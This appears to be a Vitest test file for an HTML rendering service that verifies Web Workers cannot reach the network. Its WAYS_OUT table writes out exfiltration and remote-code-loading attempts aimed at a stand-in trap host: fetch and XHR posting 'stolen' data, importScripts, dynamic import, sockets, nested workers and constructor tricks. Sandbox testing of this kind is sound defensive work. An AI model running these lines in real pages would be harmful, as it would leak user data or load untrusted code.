/** What scripts say in a document, and workers of every kind, none of which has a way out. */
import { describe, expect, inject, it } from 'vitest'
import { trapped } from './outgoing'
import { type Part, partOf } from './part'
import { render } from './service'

const { site, trap } = inject('origins')
const at = { base_url: `${site}/` }

/** What a script says by `say(text)`; the document has no warnings. */
export async function said(script: string): Promise<string> {
  const html = `<p id="p" style="font-size:6px">said nothing</p><script>const say = (text) => { p.textContent = 'said ' + text }
    ;(async () => { ${script} })().catch((error) => say(error))</script>`
  const { text, headers } = await render(html, { options: at })
  expect(headers.get('x-warnings')).toBeNull()
  return text
    .trim()
    .replace(/^said /, '')
    .replace(/\s+/g, ' ')
}

const looks = `['WebSocket', 'WebTransport', 'EventSource', 'Worker', 'BroadcastChannel'].filter((name) => name in self)`

const KINDS = [
  [
    'of a blob',
    `new Worker(URL.createObjectURL(new Blob(['onmessage = ({ data }) => postMessage(data + ${looks.replaceAll("'", '"')})'])))`,
  ],
  [
    'of a data: address',
    `new Worker('data:text/javascript,onmessage = ({ data }) => postMessage(data + ${looks.replaceAll("'", '"')})')`,
  ],
  [
    'that is a module',
    `new Worker(URL.createObjectURL(new Blob(['onmessage = ({ data }) => postMessage(data + ${looks.replaceAll("'", '"')})'], { type: 'text/javascript' })), { type: 'module' })`,
  ],
]

const WAYS_OUT = [
  ['fetch', `fetch('${trap}/fetch', { method: 'POST', body: 'stolen' }).catch(() => {})`],
  [
    'XMLHttpRequest',
    `const x = new XMLHttpRequest(); x.open('POST', '${trap}/xhr', false); try { x.send('stolen') } catch {}`,
  ],
  ['an import', `try { importScripts('${trap}/import.js') } catch {}`],
  ['a module', `import('${trap}/module.js').catch(() => {})`],
  [
    'sockets',
    `try { new WebSocket('${trap.replace('http', 'ws')}/socket') } catch {}; try { new WebTransport('https://${trap.slice(7)}/') } catch {}; try { new EventSource('${trap}/events') } catch {}`,
  ],
  [
    'a worker of its own',
    `try { new Worker(URL.createObjectURL(new Blob(['fetch("${trap}/nested")']))) } catch {}`,
  ],
  [
    'the constructors of what it has',
    `fetch(new (Object.getPrototypeOf(new Request('${trap}/')).constructor)('${trap}/request', { method: 'POST', body: 'x' })).catch(() => {})`,
  ],
]

/** The rows of that part of each table. */
export function workerSuite(part: Part) {
  describe('a worker', () => {
    it.each(partOf(KINDS, 1, part))('%s works, and has no way out', async (_, worker) => {
      expect(
        await said(
          `const worker = ${worker}; worker.onmessage = ({ data }) => say(data); worker.postMessage('heard')`,
        ),
      ).toBe('heard')
    })

    it.each(partOf(WAYS_OUT, 3, part))('reaches no server by %s', async (_, way) => {
      const html = `<p>stays</p><script>const worker = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(`${way}; postMessage('done')`)}])))
        worker.onmessage = () => document.body.append('tried')</script>`
      const { text } = await render(html)
      expect(text).toMatch(/stays\s*tried/)
      expect(await trapped()).toEqual([])
    })
  })
}
